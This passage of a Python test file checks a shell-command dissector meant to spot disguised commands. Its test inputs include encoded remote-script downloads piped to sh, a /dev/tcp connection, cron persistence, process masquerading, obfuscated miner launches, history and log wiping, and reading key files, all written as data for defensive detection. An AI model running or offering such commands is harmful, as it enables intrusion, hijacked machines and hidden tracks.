"""Shell texts and the parts they come to, by subject; then what must hold for any text."""

from __future__ import annotations

import base64
import bz2
import gzip
import json
import lzma
import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parsers.dissect.commands import CommandPart, dissect
from parsers.dissect.walk import PARTS, TEXT_BYTES

# One line is one part: number of its carrier or "-", how it is reached, its words; then, behind bars, assignments,
# redirects, the text where it has no words, and notes. Hosts and addresses are documentation names.

STRUCTURE = {
    "ls": [
        "- top ls",
    ],
    "a; b": [
        "- top a",
        "- sequence b",
    ],
    "a && b || c": [
        "- top a",
        "- and b",
        "- or c",
    ],
    "a | b |& c": [
        "- top a",
        "- pipe b",
        "- pipe c",
    ],
    "a & b": [
        "- background a | background",
        "- sequence b",
    ],
    "a && b &": [
        "- background a | background",
        "- and b | background",
    ],
    "(a; b)": [
        "- top a",
        "- sequence b",
    ],
    "{ a; b; }": [
        "- top a",
        "- sequence b",
    ],
    "! a | b": [
        "- top a",
        "- pipe b",
    ],
    "a |\nb": [
        "- top a",
        "- pipe b",
    ],
    "a\nb\n": [
        "- top a",
        "- sequence b",
    ],
    "# only a comment": [],
    "a # b": [
        "- top a",
    ],
    "": [],
    "  \n\t": [],
    "for i in 1 2; do wget http://h.example/$i; done": [
        "- top wget 'http://h.example/$i' | loop dynamic",
    ],
    "while true; do ./m; sleep 5; done": [
        "- top true | loop",
        "- sequence ./m | loop",
        "- sequence sleep 5 | loop",
    ],
    "until a; do b; done": [
        "- top a | loop",
        "- sequence b | loop",
    ],
    "if a; then b; elif c; then d; else e; fi": [
        "- top a",
        "- sequence b | conditional",
        "- sequence c | conditional",
        "- sequence d | conditional",
        "- sequence e | conditional",
    ],
    "case $x in a) b;; *) c;; esac": [
        "- top b | conditional",
        "- sequence c | conditional",
    ],
    "f() { ./m; }; f": [
        "- top ./m | function",
        "- sequence f",
    ],
    "for f in $(ls *.sh); do sh $f; done": [
        "- substitution ls '*.sh' | loop dynamic",
        "- top sh '$f' | loop dynamic",
    ],
    "[ -f x ] && rm x": [
        "- and rm x",
    ],
    "[[ -n $(id) ]] || a": [
        "- substitution id",
        "- or a",
    ],
    "(( i++ )); let i=1": [
        "- sequence let i=1",
    ],
    "time ( ./m -o p )": [
        "- top time",
        "0 time ./m -o p",
    ],
    "cat a 2>&1 | grep b && c": [
        "- top cat a | out '2>&1'",
        "- pipe grep b",
        "- and c",
    ],
    "a&&b;c": [
        "- top a",
        "- and b",
        "- sequence c",
    ],
    "coproc ./m": [
        "- top coproc ./m",
        "0 coproc ./m",
    ],
}

QUOTING = {
    '"xm""rig" -o x': [
        "- top xmrig -o x",
    ],
    "x'm'r\"ig\" a\\ b": [
        "- top xmrig 'a b'",
    ],
    "$'\\x78mrig' $'a\\tb' $'\\u00e9' $'\\101'": [
        "- top xmrig 'a\tb' 'é' A",
    ],
    '"a $x b" "\\$5" "a\\\nb"': [
        "- top 'a $x b' '$5' ab | dynamic",
    ],
    "a\\\nb c \\\n d": [
        "- top ab c d",
    ],
    "a'b'\"c\"\\ d e": [
        "- top 'abc d' e",
    ],
    "echo '$HOME' \"$HOME\" ~ *.log x{1,2} {} [ab]": [
        "- top echo '$HOME' '$HOME' '~' '*.log' 'x{1,2}' '{}' '[ab]' | dynamic",
    ],
    '$"hello"': [
        "- top hello",
    ],
    "echo a\\;b \\;": [
        "- top echo 'a;b' ';'",
    ],
    "'/opt/my tools/m' -o p": [
        "- top '/opt/my tools/m' -o p",
    ],
    "{wget,-q,http://h.example/m}": [
        "- top wget -q http://h.example/m",
    ],
    "é '中文'": [
        "- top 'é' '中文'",
    ],
}

REDIRECTS = {
    "a > f 2>&1": [
        "- top a | out '>f' '2>&1'",
    ],
    "a >> f < g": [
        "- top a | in '<g' | out '>>f'",
    ],
    "a &> f; b &>> f; c >| f": [
        "- top a | out '&>f'",
        "- sequence b | out '&>>f'",
        "- sequence c | out '>|f'",
    ],
    "a <g b >h": [
        "- top a b | in '<g' | out '>h'",
    ],
    "> /var/log/auth.log": [
        "- top | out '>/var/log/auth.log'",
    ],
    "exec 3<>/dev/tcp/192.0.2.9/3333": [
        "- top exec | in '3<>/dev/tcp/192.0.2.9/3333' | out '3<>/dev/tcp/192.0.2.9/3333'",
    ],
    "a <&3 3<&- >&2": [
        "- top a | in '<&3' '3<&-' | out '>&2'",
    ],
    "(a; b) > log 2>&1": [
        "- top | out '>log' '2>&1'",
        "- top a",
        "- sequence b",
    ],
    "while read l; do a; done < f": [
        "- top | in '<f' | loop",
        "- top read l | loop",
        "- sequence a | loop",
    ],
    "a > >(tee f) 2> >(cat)": [
        "- top a | out '> >(tee f)' '2> >(cat)'",
        "0 process_substitution tee f",
        "0 process_substitution cat",
    ],
    "a | b > f": [
        "- top a",
        "- pipe b | out '>f'",
    ],
    'a <<< "one two"': [
        "- top a | in '<<<one two'",
    ],
    "cat <<EOF > f\nbody\nEOF": [
        "- top cat | in '<<EOF' | out '>f'",
    ],
    "cat <<A <<'B'\n1\nA\n2\nB\na": [
        "- top cat | in '<<A' '<<B'",
        "- sequence a",
    ],
}

VARIABLES = {
    "A=1 B='x y' ./m": [
        "- top ./m | env A=1 'B=x y'",
    ],
    "HISTFILE=/dev/null": [
        "- top | env HISTFILE=/dev/null",
    ],
    "A=xm; B=rig; ${A}${B} -o y": [
        "- top | env A=xm",
        "- sequence | env B=rig",
        "- sequence xmrig -o y | expanded",
    ],
    "C='./m -o p:1'; $C": [
        "- top | env 'C=./m -o p:1'",
        "- sequence ./m -o p:1 | expanded",
    ],
    "C='./m -o'; \"$C\" p": [
        "- top | env 'C=./m -o'",
        "- sequence './m -o' p | expanded",
    ],
    "A=x; A+=y; echo $A ${A:-z} ${B}": [
        "- top | env A=x",
        "- sequence | env A+=y",
        "- sequence echo xy '${A:-z}' '${B}' | expanded dynamic",
    ],
    "for i in a b; do i2=$i; done; echo $i $i2": [
        "- top | env 'i2=$i' | loop",
        "- sequence echo '$i' '$i2' | dynamic",
    ],
    "if t; then A=1; fi; echo $A": [
        "- top t",
        "- sequence | env A=1 | conditional",
        "- sequence echo '$A' | dynamic",
    ],
    "(A=1); echo $A": [
        "- top | env A=1",
        "- sequence echo '$A' | dynamic",
    ],
    "export A=ls; bash -c '$A -l'": [
        "- top export A=ls",
        "- sequence bash -c '$A -l'",
        "1 sh_c ls -l | expanded",
    ],
    "A=ls; bash -c '$A -l'": [
        "- top | env A=ls",
        "- sequence bash -c '$A -l'",
        "1 sh_c '$A' -l | dynamic",
    ],
    "A=1; read A; echo $A": [
        "- top | env A=1",
        "- sequence read A",
        "- sequence echo '$A' | dynamic",
    ],
    "A=1; unset A; echo $A": [
        "- top | env A=1",
        "- sequence unset A",
        "- sequence echo '$A' | dynamic",
    ],
    "A=$(id) ./m": [
        "- top ./m | env 'A=$(id)'",
        "0 substitution id",
    ],
    "D=$(echo ./m); $D -o p": [
        "- top | env D=./m",
        "0 substitution echo ./m",
        "- sequence ./m -o p | expanded",
    ],
    "export PATH=$PATH:/x": [
        "- top export 'PATH=$PATH:/x' | dynamic",
    ],
    "a=(1 2); echo ${a[0]}": [
        "- top | env 'a=(1 2)'",
        "- sequence echo '${a[0]}' | dynamic",
    ],
    "export -n A; readonly B=2; declare -x C=3": [
        "- top export -n A",
        "- sequence readonly B=2",
        "- sequence declare -x C=3",
    ],
}

SUBSTITUTIONS = {
    "$(which xmrig) -o p": [
        "- top '$(which xmrig)' -o p | dynamic",
        "0 substitution which xmrig",
    ],
    'echo `id` "$(uname -a)"': [
        "- top echo '`id`' '$(uname -a)' | dynamic",
        "0 substitution id",
        "0 substitution uname -a",
    ],
    "bash <(curl -s http://h.example/a.sh)": [
        "- top bash '<(curl -s http://h.example/a.sh)' | dynamic",
        "0 process_substitution curl -s http://h.example/a.sh",
    ],
    "diff <(a) <(b)": [
        "- top diff '<(a)' '<(b)' | dynamic",
        "0 process_substitution a",
        "0 process_substitution b",
    ],
    "kill $(pgrep $(cat name))": [
        "- top kill '$(pgrep $(cat name))' | dynamic",
        "0 substitution pgrep '$(cat name)' | dynamic",
        "1 substitution cat name",
    ],
    "echo $((1+$(a)))": [
        "- top echo '$((1+$(a)))' | dynamic",
        "0 substitution a",
    ],
    'A=$(b "$(c)")': [
        "- top | env 'A=$(b \"$(c)\")'",
        "0 substitution b '$(c)' | dynamic",
        "1 substitution c",
    ],
    "eval $(a)": [
        "- top eval '$(a)' | dynamic",
        "0 substitution a",
    ],
    'bash -c "$(curl -s http://h.example)"': [
        "- top bash -c '$(curl -s http://h.example)' | dynamic",
        "0 substitution curl -s http://h.example",
    ],
    'bash -c "cd $(pwd) && ./m \\$(nproc)"': [
        "- top bash -c 'cd $(pwd) && ./m $(nproc)' | dynamic",
        "0 substitution pwd",
        "0 sh_c cd '$(pwd)' | dynamic",
        "0 and ./m '$(nproc)' | dynamic",
        "3 substitution nproc",
    ],
    'cat <<EOF\nx $(id) `w` "$(c "d")"\nEOF': [
        "- top cat | in '<<EOF'",
        "0 substitution id",
        "0 substitution w",
        "0 substitution c d",
    ],
    "cat <<'EOF'\n$(id)\nEOF": [
        "- top cat | in '<<EOF'",
    ],
}

WRAPPERS = {
    "sudo ./m": [
        "- top sudo ./m",
        "0 sudo ./m",
    ],
    "sudo -u root -E A=1 ./m -x": [
        "- top sudo -u root -E A=1 ./m -x",
        "0 sudo ./m -x | env A=1",
    ],
    "sudo -l": [
        "- top sudo -l",
    ],
    "sudo --user=bob -- ./m": [
        "- top sudo --user=bob -- ./m",
        "0 sudo ./m",
    ],
    "doas -u bob ./m": [
        "- top doas -u bob ./m",
        "0 doas ./m",
    ],
    "su -c './m -o p' bob": [
        "- top su -c './m -o p' bob",
        "0 su ./m -o p",
    ],
    "su - bob -c id": [
        "- top su - bob -c id",
        "0 su id",
    ],
    "su -lc id": [
        "- top su -lc id",
        "0 su id",
    ],
    "runuser -u bob -- ./m": [
        "- top runuser -u bob -- ./m",
        "0 su ./m",
    ],
    "env -i A=1 B='x y' ./m": [
        "- top env -i A=1 'B=x y' ./m",
        "0 env ./m | env A=1 'B=x y'",
    ],
    "env -u A -S 'nice -n 5 ./m'": [
        "- top env -u A -S 'nice -n 5 ./m'",
        "0 env nice -n 5 ./m",
        "1 nice ./m",
    ],
    "nohup ./m > /dev/null 2>&1 &": [
        "- background nohup ./m | out '>/dev/null' '2>&1' | background",
        "0 nohup ./m | background",
    ],
    "nice -n 19 ./m; nice -19 ./m; nice ./m": [
        "- top nice -n 19 ./m",
        "0 nice ./m",
        "- sequence nice -19 ./m",
        "2 nice ./m",
        "- sequence nice ./m",
        "4 nice ./m",
    ],
    "ionice -c3 ./m; ionice -c 2 -n 7 ./m; ionice -p 12": [
        "- top ionice -c3 ./m",
        "0 ionice ./m",
        "- sequence ionice -c 2 -n 7 ./m",
        "2 ionice ./m",
        "- sequence ionice -p 12",
    ],
    "timeout -k 5 1h ./m": [
        "- top timeout -k 5 1h ./m",
        "0 timeout ./m",
    ],
    "timeout --signal=KILL 10 ./m": [
        "- top timeout --signal=KILL 10 ./m",
        "0 timeout ./m",
    ],
    "setsid -f ./m": [
        "- top setsid -f ./m",
        "0 setsid ./m",
    ],
    "stdbuf -oL ./m": [
        "- top stdbuf -oL ./m",
        "0 stdbuf ./m",
    ],
    "taskset -c 0-3 ./m; taskset 0xf ./m; taskset -p 1 2": [
        "- top taskset -c 0-3 ./m",
        "0 taskset ./m",
        "- sequence taskset 0xf ./m",
        "2 taskset ./m",
        "- sequence taskset -p 1 2",
    ],
    "chroot /mnt ./m": [
        "- top chroot /mnt ./m",
        "0 chroot ./m",
    ],
    "nsenter -t 1 -m -- ./m": [
        "- top nsenter -t 1 -m -- ./m",
        "0 nsenter ./m",
    ],
    "unshare -n ./m": [
        "- top unshare -n ./m",
        "0 unshare ./m",
    ],
    "cat f | xargs -n1 -I {} kill {}": [
        "- top cat f",
        "- pipe xargs -n1 -I '{}' kill '{}'",
        "1 xargs kill '{}'",
    ],
    "parallel -j 4 ./m {} ::: a b": [
        "- top parallel -j 4 ./m '{}' ::: a b",
        "0 parallel ./m '{}'",
    ],
    "watch -n 5 'nvidia-smi | head'": [
        "- top watch -n 5 'nvidia-smi | head'",
        "0 watch nvidia-smi",
        "0 pipe head",
    ],
    "time -p A=1 ./m": [
        "- top time -p A=1 ./m",
        "0 time ./m | env A=1",
    ],
    "exec -a '[kworker/0:1]' ./m -o p": [
        "- top exec -a '[kworker/0:1]' ./m -o p",
        "0 exec ./m -o p | renamed",
    ],
    "exec ./m": [
        "- top exec ./m",
        "0 exec ./m",
    ],
    "docker exec -it -e A=b -u 0 web bash -c './m -o p'": [
        "- top docker exec -it -e A=b -u 0 web bash -c './m -o p'",
        "0 container_exec bash -c './m -o p'",
        "1 sh_c ./m -o p",
    ],
    "docker run --rm -d --gpus all -v /a:/b --name n img:1 ./m -o p": [
        "- top docker run --rm -d --gpus all -v /a:/b --name n img:1 ./m -o p",
        "0 container_run ./m -o p",
    ],
    "docker -H tcp://h exec web ls; podman exec web ls": [
        "- top docker -H tcp://h exec web ls",
        "0 container_exec ls",
        "- sequence podman exec web ls",
        "2 container_exec ls",
    ],
    "docker compose exec web ls; docker ps": [
        "- top docker compose exec web ls",
        "0 container_exec ls",
        "- sequence docker ps",
    ],
    "kubectl exec -n ns -it pod -c c -- ./m": [
        "- top kubectl exec -n ns -it pod -c c -- ./m",
        "0 kubectl_exec ./m",
    ],
    "kubectl get pods": [
        "- top kubectl get pods",
    ],
    "ssh -p 22 -i k u@h.example 'cd /x && ./m'": [
        "- top ssh -p 22 -i k u@h.example 'cd /x && ./m'",
        "0 ssh cd /x",
        "0 and ./m",
    ],
    "ssh u@h.example ls -l /tmp": [
        "- top ssh u@h.example ls -l /tmp",
        "0 ssh ls -l /tmp",
    ],
    "ssh u@h.example -p 22 uptime": [
        "- top ssh u@h.example -p 22 uptime",
        "0 ssh uptime",
    ],
    "ssh u@h.example": [
        "- top ssh u@h.example",
    ],
    "screen -dmS s ./m -o p": [
        "- top screen -dmS s ./m -o p",
        "0 screen ./m -o p",
    ],
    "screen -S s -X stuff './m\n'": [
        "- top screen -S s -X stuff './m\n'",
        "0 screen ./m",
    ],
    "tmux new -d -s a './m -o p'": [
        "- top tmux new -d -s a './m -o p'",
        "0 tmux ./m -o p",
    ],
    "tmux new-session -d ./m -o p": [
        "- top tmux new-session -d ./m -o p",
        "0 tmux ./m -o p",
    ],
    "tmux send-keys -t a './m -o p' Enter": [
        "- top tmux send-keys -t a './m -o p' Enter",
        "0 tmux_send_keys ./m -o p",
    ],
    "find / -name '*.pem' -exec cat {} \\; -o -exec sh -c 'echo {}' +": [
        "- top find / -name '*.pem' -exec cat '{}' ';' -o -exec sh -c 'echo {}' +",
        "0 find_exec cat '{}'",
        "0 find_exec sh -c 'echo {}'",
        "2 sh_c echo '{}'",
    ],
    "bash -lc 'a && b'": [
        "- top bash -lc 'a && b'",
        "0 sh_c a",
        "0 and b",
    ],
    "zsh -c a; dash -ec a; sh -o pipefail -c a": [
        "- top zsh -c a",
        "0 sh_c a",
        "- sequence dash -ec a",
        "2 sh_c a",
        "- sequence sh -o pipefail -c a",
        "4 sh_c a",
    ],
    "bash x.sh -c": [
        "- top bash x.sh -c",
    ],
    "sh -c 'a' name 1": [
        "- top sh -c a name 1",
        "0 sh_c a",
    ],
    "eval './m' -o p": [
        "- top eval ./m -o p",
        "0 eval ./m -o p",
    ],
    "python3 -c 'import os' x": [
        "- top python3 -c 'import os' x",
        "0 python_c | text 'import os' | code",
    ],
    "python3 train.py -c cfg": [
        "- top python3 train.py -c cfg",
    ],
    "node -e 'f()'; perl -e 1; python3.11 -Bc x": [
        "- top node -e 'f()'",
        "0 node_e | text 'f()' | code",
        "- sequence perl -e 1",
        "2 perl_e | text '1' | code",
        "- sequence python3.11 -Bc x",
        "4 python_c | text 'x' | code",
    ],
    "systemd-run --user --unit m -p CPUQuota=50% ./m -o p": [
        "- top systemd-run --user --unit m -p CPUQuota=50% ./m -o p",
        "0 systemd_run ./m -o p",
    ],
    "flock -n /l ./m; flock /l -c './m -o p'": [
        "- top flock -n /l ./m",
        "0 flock ./m",
        "- sequence flock /l -c './m -o p'",
        "2 flock ./m -o p",
    ],
    "proot -r /x -b /dev ./m": [
        "- top proot -r /x -b /dev ./m",
        "0 proot ./m",
    ],
    "busybox sh -c ./m": [
        "- top busybox sh -c ./m",
        "0 busybox sh -c ./m",
        "1 sh_c ./m",
    ],
    "script -qc './m -o p' /dev/null": [
        "- top script -qc './m -o p' /dev/null",
        "0 script ./m -o p",
    ],
    "trap 'rm -f x' EXIT; trap - INT": [
        "- top trap 'rm -f x' EXIT",
        "0 trap rm -f x",
        "- sequence trap - INT",
    ],
    "command ./m; command -v m; builtin cd x": [
        "- top command ./m",
        "0 command ./m",
        "- sequence command -v m",
        "- sequence builtin cd x",
        "3 builtin cd x",
    ],
    "uv run --with x python t.py; poetry run ./m; conda run -n e ./m": [
        "- top uv run --with x python t.py",
        "0 run python t.py",
        "- sequence poetry run ./m",
        "2 run ./m",
        "- sequence conda run -n e ./m",
        "4 run ./m",
    ],
    "strace -f -e trace=net -o f ./m": [
        "- top strace -f -e trace=net -o f ./m",
        "0 strace ./m",
    ],
    "proxychains4 -q ./m": [
        "- top proxychains4 -q ./m",
        "0 proxychains ./m",
    ],
    "numactl --cpunodebind=0 ./m; chrt -i 0 ./m; cpulimit -l 50 -- ./m": [
        "- top numactl --cpunodebind=0 ./m",
        "0 numactl ./m",
        "- sequence chrt -i 0 ./m",
        "2 chrt ./m",
        "- sequence cpulimit -l 50 -- ./m",
        "4 cpulimit ./m",
    ],
    "sudo nohup nice -n 19 timeout 1h env A=1 bash -lc 'cd /tmp && ./m'": [
        "- top sudo nohup nice -n 19 timeout 1h env A=1 bash -lc 'cd /tmp && ./m'",
        "0 sudo nohup nice -n 19 timeout 1h env A=1 bash -lc 'cd /tmp && ./m'",
        "1 nohup nice -n 19 timeout 1h env A=1 bash -lc 'cd /tmp && ./m'",
        "2 nice timeout 1h env A=1 bash -lc 'cd /tmp && ./m'",
        "3 timeout env A=1 bash -lc 'cd /tmp && ./m'",
        "4 env bash -lc 'cd /tmp && ./m' | env A=1",
        "5 sh_c cd /tmp",
        "5 and ./m",
    ],
}

PAYLOADS = {
    "bash <<'EOF'\nls -l\n./m -o p\nEOF": [
        "- top bash | in '<<EOF'",
        "0 heredoc ls -l",
        "0 sequence ./m -o p",
    ],
    "cat <<EOF | bash\nls $HOME\nEOF": [
        "- top cat | in '<<EOF'",
        "- pipe bash",
        "1 heredoc ls '$HOME' | partial dynamic",
    ],
    "bash <<EOF && echo done\na\nEOF\nb": [
        "- top bash | in '<<EOF'",
        "0 heredoc a",
        "- and echo done",
        "- sequence b",
    ],
    "sh <<-X\n\ta\n\tX": [
        "- top sh | in '<<-X'",
        "0 heredoc a",
    ],
    "python3 - <<'PY'\nimport os\nPY": [
        "- top python3 - | in '<<PY'",
        "0 heredoc | text 'import os\\n' | code",
    ],
    "sh <<< 'a -b'": [
        "- top sh | in '<<<a -b'",
        "0 herestring a -b",
    ],
    "echo 'a b' | sh": [
        "- top echo 'a b'",
        "- pipe sh",
        "1 stdin a b",
    ],
    "printf 'a %s\\n' b | sudo bash -s x": [
        "- top printf 'a %s\\n' b",
        "- pipe sudo bash -s x",
        "1 sudo bash -s x",
        "2 stdin a b",
    ],
    "echo 'ls /' | ssh root@h.example": [
        "- top echo 'ls /'",
        "- pipe ssh root@h.example",
        "1 stdin ls /",
    ],
    "echo ./m | at now + 1 minute": [
        "- top echo ./m",
        "- pipe at now + 1 minute",
        "1 stdin ./m",
    ],
    "(crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/.x/m -o p >/dev/null 2>&1'; echo '@reboot /tmp/m') | crontab -": [
        "- top crontab -l | out '2>/dev/null'",
        "- sequence echo '*/5 * * * * /tmp/.x/m -o p >/dev/null 2>&1'",
        "- sequence echo '@reboot /tmp/m'",
        "- pipe crontab -",
        "3 cron /tmp/.x/m -o p | out '>/dev/null' '2>&1' | partial",
        "3 cron /tmp/m | partial",
    ],
    "crontab - <<E\n# m\n0 0 * * mon-fri /x\nE": [
        "- top crontab - | in '<<E'",
        "0 cron /x",
    ],
    "source /dev/stdin <<< a; . ./x": [
        "- top source /dev/stdin | in '<<<a'",
        "0 herestring a",
        "- sequence . ./x",
    ],
    "cat > /tmp/r.sh <<'EOF'\n#!/bin/bash\nnohup ./m -o p &\nEOF\nchmod +x /tmp/r.sh && /tmp/r.sh": [
        "- top cat | in '<<EOF' | out '>/tmp/r.sh'",
        "0 background nohup ./m -o p | written background",
        "1 nohup ./m -o p | written background",
        "- sequence chmod +x /tmp/r.sh",
        "- and /tmp/r.sh",
    ],
    "sudo tee /opt/run <<'EOF' > /dev/null\n#!/bin/sh\n./m\nEOF": [
        "- top sudo tee /opt/run | in '<<EOF' | out '>/dev/null'",
        "0 sudo tee /opt/run",
        "1 written ./m | written",
    ],
    "cat > notes.txt <<'EOF'\nrun ./m\nEOF": [
        "- top cat | in '<<EOF' | out '>notes.txt'",
    ],
    "git commit -m \"$(cat <<'EOF'\nfix: a\n\nb\nEOF\n)\"": [
        "- top git commit -m 'fix: a\n\nb' | expanded",
        "0 substitution cat | in '<<EOF'",
    ],
    "echo a | cat | tee f | sh": [
        "- top echo a",
        "- pipe cat",
        "- pipe tee f",
        "- pipe sh",
        "3 stdin a",
    ],
    "echo a | grep a | sh": [
        "- top echo a",
        "- pipe grep a",
        "- pipe sh",
    ],
    'bash -c "bash -c \\"bash -c \'ls\'\\""': [
        "- top bash -c 'bash -c \"bash -c '\"'\"'ls'\"'\"'\"'",
        "0 sh_c bash -c 'bash -c '\"'\"'ls'\"'\"''",
        "1 sh_c bash -c ls",
        "2 sh_c ls",
    ],
    "echo 'print(1)' | python3": [
        "- top echo 'print(1)'",
        "- pipe python3",
        "1 stdin | text 'print(1)\\n' | code",
    ],
    "echo a > f | sh": [
        "- top echo a | out '>f'",
        "- pipe sh",
    ],
}

DECODERS = {
    "echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA== | base64 -d | sh": [
        "- top echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==",
        "- pipe base64 -d",
        "- pipe sh",
        "2 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "2 pipe sh | decoded",
    ],
    "echo -n Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA== | base64 --decode | bash": [
        "- top echo -n Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==",
        "- pipe base64 --decode",
        "- pipe bash",
        "2 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "2 pipe sh | decoded",
    ],
    "base64 -d <<< Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA== | sh": [
        "- top base64 -d | in '<<<Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA=='",
        "- pipe sh",
        "1 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "1 pipe sh | decoded",
    ],
    'eval "$(echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA== | base64 -d)"': [
        "- top eval 'curl -s http://192.0.2.4/a.sh | sh' | decoded",
        "0 substitution echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==",
        "0 pipe base64 -d",
        "0 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "0 pipe sh | decoded",
    ],
    'bash -c "$(base64 -d <<< Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==)"': [
        "- top bash -c 'curl -s http://192.0.2.4/a.sh | sh' | decoded",
        "0 substitution base64 -d | in '<<<Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA=='",
        "0 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "0 pipe sh | decoded",
    ],
    "P=Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==; echo $P | base64 -d | bash": [
        "- top | env P=Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==",
        "- sequence echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA== | expanded",
        "- pipe base64 -d",
        "- pipe bash",
        "3 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "3 pipe sh | decoded",
    ],
    "echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA== | openssl base64 -d -A | sh": [
        "- top echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==",
        "- pipe openssl base64 -d -A",
        "- pipe sh",
        "2 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "2 pipe sh | decoded",
    ],
    "echo 2e2f6d202d6f20703a31 | xxd -r -p | bash": [
        "- top echo 2e2f6d202d6f20703a31",
        "- pipe xxd -r -p",
        "- pipe bash",
        "2 hex ./m -o p:1 | decoded",
    ],
    "echo H4sIAAAAAAACA9PTz1XQzVcosDLkAgBkrSOnCwAAAA== | base64 -d | gunzip | sh": [
        "- top echo H4sIAAAAAAACA9PTz1XQzVcosDLkAgBkrSOnCwAAAA==",
        "- pipe base64 -d",
        "- pipe gunzip",
        "- pipe sh",
        "3 base64 ./m -o p:1 | decoded",
    ],
    "echo H4sIAAAAAAACA9PTz1XQzVcosDLkAgBkrSOnCwAAAA== | base64 -d | zcat -f - > m.sh": [
        "- top echo H4sIAAAAAAACA9PTz1XQzVcosDLkAgBkrSOnCwAAAA==",
        "- pipe base64 -d",
        "- pipe zcat -f - | out '>m.sh'",
        "2 base64 | text './m -o p:1\\n' | decoded",
    ],
    "printf '\\x6c\\x73' | sh": [
        "- top printf '\\x6c\\x73'",
        "- pipe sh",
        "1 stdin ls",
    ],
    "echo 'p- m/.' | rev | sh": [
        "- top echo 'p- m/.'",
        "- pipe rev",
        "- pipe sh",
        "2 reversed ./m -p | decoded",
    ],
    "echo 'yf -y' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh": [
        "- top echo 'yf -y'",
        "- pipe tr A-Za-z N-ZA-Mn-za-m",
        "- pipe sh",
        "2 rot13 ls -l | decoded",
    ],
    "python3 -c \"exec(b64decode('c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw=='))\"": [
        "- top python3 -c 'exec(b64decode('\"'\"'c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw=='\"'\"'))'",
        "0 python_c | text \"exec(b64decode('c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw=='))\" | code",
        "1 decoded | text 'stratum+tcp://pool.example:3333' | decoded",
    ],
    "./m --config c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw==": [
        "- top ./m --config c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGU6MzMzMw==",
        "0 decoded | text 'stratum+tcp://pool.example:3333' | decoded",
    ],
    "echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA== | base64 -d > x.sh": [
        "- top echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==",
        "- pipe base64 -d | out '>x.sh'",
        "1 base64 | text 'curl -s http://192.0.2.4/a.sh | sh' | decoded",
    ],
    "cat <<EOF | base64 -d | sh\nY3VybCAtcyBodHRwOi8vMTkyLjAuMi40L2Euc2ggfCBzaA==\nEOF": [
        "- top cat | in '<<EOF'",
        "- pipe base64 -d",
        "- pipe sh",
        "2 base64 curl -s http://192.0.2.4/a.sh | decoded",
        "2 pipe sh | decoded",
    ],
    "echo notbase64! | base64 -d | sh": [
        "- top echo 'notbase64!'",
        "- pipe base64 -d",
        "- pipe sh",
    ],
    "git show 3f786850e387550fdab836ed7e6dc881de23001b": [
        "- top git show 3f786850e387550fdab836ed7e6dc881de23001b",
    ],
    "ls /usr/local/lib/python3/dist/packages/aaaaaaaa": [
        "- top ls /usr/local/lib/python3/dist/packages/aaaaaaaa",
    ],
    "$(echo bHM= | base64 -d) -l": [
        "- top ls -l | decoded",
        "0 substitution echo bHM=",
        "0 pipe base64 -d",
    ],
    "base64 -d f | sh": [
        "- top base64 -d f",
        "- pipe sh",
    ],
}

DAMAGE = {
    "foo 'unterminated": [
        "- top foo | parse_error",
    ],
    "do echo hi": [
        "- top echo hi | cut_line",
    ],
    "then ./m; fi": [
        "- top ./m | cut_line",
    ],
    "cat <<EOF\nnever closed": [
        "- top cat | in '<<EOF' | unclosed_heredoc",
    ],
    "ls;; foo ) bar": [
        "- top ls",
        "- sequence foo bar | parse_error",
    ],
    "'": [
        "- top | parse_error",
    ],
    "a && && b": [
        "- top a | parse_error",
        "- and b",
    ],
    "$(": [
        "- top | parse_error",
    ],
    "PS C:\\> Get-Process | Sort CPU": [
        "- top PS 'C:>' Get-Process",
        "- pipe Sort CPU",
    ],
    '{"a": 1}': [
        "- top a: '1}' | parse_error",
    ],
    "a\x00b c": [
        "- top 'a\x00b' c",
    ],
    "\udcff a": [
        "- top udcff a",
    ],
}


def shown(part: CommandPart) -> str:
    words = [("-" if part.parent_no is None else str(part.parent_no)), part.via, *map(shlex.quote, part.argv)]
    line = " ".join(words)
    for name, values in (("env", part.environment), ("in", part.redirect_in), ("out", part.redirect_out)):
        line += f" | {name} {shlex.join(values)}" if values else ""
    if not part.argv and {"code", "decoded"} & set(part.notes):
        line += f" | text {part.text!r}"
    return line + (" | " + " ".join(part.notes) if part.notes else "")


CASES = {
    **STRUCTURE,
